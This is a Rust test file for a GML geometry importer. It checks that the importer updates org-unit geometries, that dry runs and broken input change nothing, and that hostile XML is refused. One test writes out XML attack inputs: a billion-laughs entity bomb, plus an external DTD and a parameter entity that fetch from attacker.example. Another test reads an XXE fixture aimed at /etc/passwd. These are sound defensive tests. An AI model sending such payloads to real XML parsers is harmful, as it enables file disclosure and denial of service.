//! DHIS2's `GmlImportServiceTest` on the corpus file `gml/testGmlPayload.gml` against the test's
//! org units (`tests/fixtures/gml-org-units.json`), its malicious payload (reproduced in
//! `tests/fixtures/malicious-xxe.gml`), and hostile documents: each a clear `E7010` or error,
//! nothing changed.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use common::{catalogue_with, corpus, fixture, geometry, metadata, org_unit};
use dxf2_metadata::catalogue::MemoryCatalogue;
use dxf2_metadata::import::{ImportMode, Status, Timestamps};
use dxf2_model::ReadLimits;
use geometry_import::gml::{GmlFeature, GmlIdentifier, GmlReader, GML_IMPORT_CLASS};
use geometry_import::{import_gml, Error, GmlImport, GmlImportParams};
use serde_json::{json, Value};

fn catalogue() -> MemoryCatalogue {
    catalogue_with(&metadata("gml-org-units.json"), |_| true)
}

fn params() -> GmlImportParams {
    let mut p = GmlImportParams::default();
    p.metadata.timestamps = Timestamps::At("2024-05-01T10:00:00.000".into());
    p
}

fn import(catalogue: &MemoryCatalogue, gml: &[u8]) -> GmlImport {
    import_gml(catalogue, gml, &params()).unwrap()
}

/// DHIS2's `CoordinateUtils.getCoordinatesAsList`: the polygons (of a multi-polygon), each its
/// first ring's positions; a polygon is one, a point one of one position.
fn coordinates(g: &Value) -> Vec<usize> {
    match g["type"].as_str().unwrap() {
        "Point" => vec![1],
        "Polygon" => vec![g["coordinates"][0].as_array().unwrap().len()],
        "MultiPolygon" => g["coordinates"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p[0].as_array().unwrap().len())
            .collect(),
        other => panic!("{other}"),
    }
}

/// The E7010 refusal, with nothing changed.
fn refused(r: &GmlImport) -> String {
    assert_eq!(r.report.status, Status::Error);
    assert!(r.changes.is_empty());
    let e = r.report.error_reports().next().expect("an error report");
    assert_eq!(e.error_code, "E7010");
    assert_eq!(e.main_klass, GML_IMPORT_CLASS);
    e.message.clone()
}

#[test]
fn the_test_payload_updates_the_five_org_units() {
    let Some(gml) = corpus("gml/testGmlPayload.gml") else {
        return;
    };
    let mut c = catalogue();
    let before = c.clone();
    let r = import(&c, &gml);
    assert_eq!(r.features, 5);
    assert_eq!(r.report.status, Status::Ok, "{:?}", r.report);
    assert_eq!(r.report.stats.updated, 5);
    assert_eq!(r.report.stats.created + r.report.stats.ignored, 0);
    c.apply(&r.changes);

    let bo = geometry(&org_unit(&c, "ouabcdefghA"));
    assert_eq!(bo["type"], "Polygon");
    assert_eq!(coordinates(&bo), [76]);
    assert_eq!(
        bo["coordinates"][0][0],
        json!([-11.8706, 8.378]),
        "polygons to 4 decimals"
    );
    let bonthe = geometry(&org_unit(&c, "ouabcdefghB"));
    assert_eq!(bonthe["type"], "MultiPolygon");
    let sizes = coordinates(&bonthe);
    assert_eq!(sizes.len(), 18);
    assert_eq!(sizes[1], 189);
    assert_eq!(
        sizes,
        [10, 189, 5, 8, 16, 8, 9, 6, 7, 8, 8, 8, 11, 19, 7, 7, 10, 138]
    );
    let ojd = geometry(&org_unit(&c, "ImspTQPwCqd"));
    assert_eq!(
        ojd,
        json!({"type": "Point", "coordinates": [-11.87061, 8.37797]}),
        "points to 6"
    );
    let blindern = geometry(&org_unit(&c, "ouabcdefghD"));
    assert_eq!(
        blindern,
        json!({"type": "Point", "coordinates": [-11.87061, 8.37797]})
    );
    let forsk = geometry(&org_unit(&c, "ouabcdefghE"));
    assert_eq!(forsk["type"], "Polygon");
    assert_eq!(coordinates(&forsk), [76]);

    // Only the geometry changed (and DHIS2's lastUpdated).
    for uid in [
        "ouabcdefghA",
        "ouabcdefghB",
        "ImspTQPwCqd",
        "ouabcdefghD",
        "ouabcdefghE",
    ] {
        let mut after = org_unit(&c, uid);
        assert_eq!(
            after.remove("lastUpdated"),
            Some(json!("2024-05-01T10:00:00.000"))
        );
        after.remove("geometry");
        assert_eq!(after, org_unit(&before, uid), "{uid}");
    }
}

#[test]
fn the_payload_identifiers_are_the_stylesheets() {
    let Some(gml) = corpus("gml/testGmlPayload.gml") else {
        return;
    };
    let mut reader = GmlReader::new(&gml[..]);
    let mut f = GmlFeature::default();
    let mut ids = Vec::new();
    while reader.read_feature(&mut f).unwrap() {
        ids.push(f.identifier.clone().unwrap());
        assert_eq!(f.geometries.len(), 1);
    }
    assert_eq!(
        ids,
        [
            GmlIdentifier::Name("Bo".into()),
            GmlIdentifier::Code("CODE_BONTHE".into()),
            GmlIdentifier::Uid("ImspTQPwCqd".into()),
            GmlIdentifier::Name("Blindern".into()),
            GmlIdentifier::Name("Forskningsparken".into()),
        ]
    );
}

#[test]
fn a_dry_run_reports_and_changes_nothing() {
    let Some(gml) = corpus("gml/testGmlPayload.gml") else {
        return;
    };
    let mut p = params();
    p.metadata.import_mode = ImportMode::Validate;
    let r = import_gml(&catalogue(), &gml[..], &p).unwrap();
    assert_eq!(r.report.status, Status::Ok);
    assert!(r.changes.is_empty());
}

/// DHIS2's `testMaliciousImportGml`, on our copy of its payload.
#[test]
fn the_malicious_payload_is_refused() {
    let gml = std::fs::read(fixture("malicious-xxe.gml")).unwrap();
    let message = refused(&import(&catalogue(), &gml));
    assert!(
        message.contains(
            "GML import failed: External Entity: Failed to read external document &#39;passwd&#39"
        ),
        "{message}"
    );
    assert!(message.contains(
        "access is not allowed due to restriction set by the accessExternalDTD property"
    ));
    assert!(message.starts_with("Failed to validate job runtime: `GML import failed: "));
    assert!(!message.contains("root:"), "nothing of /etc/passwd");
}

#[test]
fn hostile_documents_are_refused() {
    let billion_laughs = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<c xmlns:gml="http://www.opengis.net/gml"><gml:featureMember><f><name>&lol9;</name></f></gml:featureMember></c>"#;
    assert!(
        refused(&import(&catalogue(), billion_laughs.as_bytes())).contains("DOCTYPE is disallowed")
    );
    let external_dtd = r#"<!DOCTYPE c PUBLIC "-//x//y" "http://attacker.example/x.dtd"><c/>"#;
    assert!(
        refused(&import(&catalogue(), external_dtd.as_bytes())).contains(
            "External DTD: Failed to read external DTD &#39;x.dtd&#39;, because &#39;http&#39;"
        )
    );
    let parameter_entity =
        r#"<!DOCTYPE c [<!ENTITY % p SYSTEM "https://attacker.example/p"> %p;]><c/>"#;
    assert!(refused(&import(&catalogue(), parameter_entity.as_bytes())).contains("External Entity"));
    let undeclared = r#"<c xmlns:gml="http://www.opengis.net/gml"><gml:featureMember><f><name>&xxe;</name></f></gml:featureMember></c>"#;
    assert!(refused(&import(&catalogue(), undeclared.as_bytes()))
        .contains("The entity &quot;xxe&quot; was referenced, but not declared."));
}

#[test]
fn a_truncated_payload_changes_nothing() {
    let Some(gml) = corpus("gml/testGmlPayload.gml") else {
        return;
    };
    for cut in [0, 100, gml.len() / 2, gml.len() - 10] {
        let message = refused(&import(&catalogue(), &gml[..cut]));
        assert!(message.contains("GML import failed: "), "{message}");
    }
}

#[test]
fn bad_geometries_refuse_the_whole_document() {
    let doc = |geometry: &str| {
        format!(
            r#"<c xmlns:gml="http://www.opengis.net/gml" xmlns:o="urn:o">
<gml:featureMember><o:f><o:g><gml:Point><gml:pos>1 2</gml:pos></gml:Point></o:g><o:name>Blindern</o:name></o:f></gml:featureMember>
<gml:featureMember><o:f><o:g>{geometry}</o:g><o:name>Bo</o:name></o:f></gml:featureMember></c>"#
        )
    };
    let cases = [
        // An unclosed ring (JTS).
        ("<gml:Polygon><gml:outerBoundaryIs><gml:LinearRing><gml:coordinates>0,0 1,0 1,1</gml:coordinates></gml:LinearRing></gml:outerBoundaryIs></gml:Polygon>", "closed linestring"),
        // A ring of two positions.
        ("<gml:Polygon><gml:exterior><gml:posList>0 0 0 0</gml:posList></gml:exterior></gml:Polygon>", "must be 0 or &gt;= 3"),
        // Not a number.
        ("<gml:Point><gml:coordinates>abc,1</gml:coordinates></gml:Point>", "Unparseable number: &quot;abc&quot;"),
        // One ordinate.
        ("<gml:Point><gml:coordinates>1</gml:coordinates></gml:Point>", "Index 1 out of bounds"),
        // Two positions for a point: not JSON.
        ("<gml:Point><gml:coordinates>1,2 3,4</gml:coordinates></gml:Point>", "GML import failed"),
    ];
    for (geometry, expected) in cases {
        let message = refused(&import(&catalogue(), doc(geometry).as_bytes()));
        assert!(message.contains(expected), "{geometry}: {message}");
    }
}

#[test]
fn a_huge_coordinates_text_is_refused_within_its_bound() {
    let ring: Vec<String> = (0..100_000).map(|i| format!("{i}.5,{i}.25")).collect();
    let gml = format!(
        r#"<c xmlns:gml="http://www.opengis.net/gml"><gml:featureMember><f><g><gml:Polygon><gml:outerBoundaryIs><gml:LinearRing><gml:coordinates>{} 0.5,0.25</gml:coordinates></gml:LinearRing></gml:outerBoundaryIs></gml:Polygon></g><name>Bo</name></f></gml:featureMember></c>"#,
        ring.join(" ")
    );
    let p = GmlImportParams {
        limits: ReadLimits::default().with_max_token_bytes(512 * 1024),
        ..params()
    };
    let e = import_gml(&catalogue(), gml.as_bytes(), &p).unwrap_err();
    assert!(matches!(e, Error::TooLong { .. }));
    assert!(e.to_string().contains("--max-token-bytes"), "{e}");
    // Within the default bound it imports.
    let r = import(&catalogue(), gml.as_bytes());
    assert_eq!(r.report.stats.updated, 1, "{:?}", r.report.status);
}

#[test]
fn unmatched_features_meet_the_metadata_import() {
    let gml = r#"<c xmlns:gml="http://www.opengis.net/gml">
<gml:featureMember><f><g><gml:Point><gml:pos>1 2</gml:pos></gml:Point></g><name>Bo</name></f></gml:featureMember>
<gml:featureMember><f><g><gml:Point><gml:pos>3 4</gml:pos></gml:Point></g><code>NO_SUCH_CODE</code></f></gml:featureMember>
</c>"#;
    let r = import(&catalogue(), gml.as_bytes());
    // The stylesheet's bare org unit cannot be updated: under atomic mode ALL nothing changes.
    assert_eq!(r.report.status, Status::Error);
    assert!(r.report.count_errors(None) > 0);
    assert!(r.changes.is_empty());
}

#[test]
fn a_document_without_features_changes_nothing() {
    let r = import(
        &catalogue(),
        br#"<c xmlns:gml="http://www.opengis.net/gml"/>"#,
    );
    assert_eq!(r.report.status, Status::Ok);
    assert_eq!(r.features, 0);
    assert!(r.changes.is_empty());
}
